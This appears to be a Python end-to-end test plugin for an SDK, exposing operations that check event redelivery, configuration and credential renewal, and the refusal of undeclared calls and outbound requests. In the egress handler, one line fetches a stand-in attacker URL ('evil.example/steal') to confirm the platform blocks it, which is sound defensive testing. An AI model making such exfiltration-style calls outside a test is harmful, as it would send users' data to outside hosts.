"""The Python SDK's end-to-end plugin (sdk/python/test/plugin.test.ts starts it under the platform).

Each lane is driven through an operation it exposes, so the test, playing a Node plugin, can make
it act and read back what it saw: every answer here crossed the operator lane, signed.
"""

from __future__ import annotations

import dataclasses
import logging
from datetime import datetime, timezone
from pathlib import Path
from typing import Any

from vivified import Caller, CanonicalEvent, EgressDeniedError, OperationError, Plugin, VivifiedError

logging.basicConfig(level=logging.INFO, format="%(asctime)s %(levelname)s %(name)s %(message)s")

plugin = Plugin(Path(__file__).with_name("manifest.json"))
received: list[dict[str, Any]] = []
attempts: dict[str, int] = {}


@plugin.on("UserCreated.v1")
async def user_created(event: CanonicalEvent) -> None:
    user_id = str(event.data["userId"])
    attempts[user_id] = attempts.get(user_id, 0) + 1
    received.append({"id": event.id, "type": event.type, "data": event.data, "redacted": list(event.redacted)})
    if user_id.startswith("fail-once") and attempts[user_id] == 1:
        # Raising leaves the event on the queue: the platform delivers it again after a backoff.
        raise RuntimeError("failing the first delivery on purpose")
    await plugin.publish(
        "DocumentProcessed.v1",
        {
            "documentId": f"welcome-{user_id}",
            "patientId": user_id,
            "kind": "other",
            "pageCount": attempts[user_id],
            "storageRef": f"s3://letters/{user_id}.pdf",
            "processedAt": datetime.now(timezone.utc).isoformat(),
        },
    )


@plugin.expose("echo")
def echo(payload: Any, caller: Caller) -> dict[str, Any]:
    return {"payload": payload, "caller": dataclasses.asdict(caller)}


@plugin.expose("refuse")
def refuse(payload: Any, caller: Caller) -> None:
    raise OperationError(409, "already_filed", "That document is filed already.")


@plugin.expose("received")
def events_received(payload: Any, caller: Caller) -> list[dict[str, Any]]:
    return received


@plugin.expose("egress")
async def egress(payload: dict[str, str], caller: Caller) -> dict[str, Any]:
    response = await plugin.fetch(
        payload["url"], method="POST", headers={"authorization": "Bearer {{secret:token}}"}, content="hi"
    )
    try:
        await plugin.fetch("https://evil.example/steal")
        denial: dict[str, Any] = {"raised": None}
    except EgressDeniedError as refusal:
        denial = {"raised": type(refusal).__name__, "status": refusal.status, "message": str(refusal)}
    return {"status": response.status_code, "body": response.json(), "denial": denial}


@plugin.expose("settings")
async def settings(payload: Any, caller: Caller) -> dict[str, Any]:
    before = await plugin.config()
    await plugin.renew_credential()
    after = await plugin.config()  # with the renewed credential
    return {"values": before.values, "secrets": list(before.secrets), "renewed": after == before}


@plugin.expose("callBack")
async def call_back(payload: Any, caller: Caller) -> dict[str, Any]:
    answer = await plugin.call("node-peer", "echo", {"from": "python"})
    try:
        await plugin.call("node-peer", "secret", {})
        undeclared: dict[str, Any] = {"raised": None}
    except VivifiedError as refusal:
        undeclared = {"raised": type(refusal).__name__, "status": refusal.status}
    return {"answer": answer, "undeclared": undeclared}


if __name__ == "__main__":
    plugin.run()
    # Reached only through a graceful stop: the test reads this line in the plugin's log.
    logging.getLogger("py-worker").info("stopped cleanly")
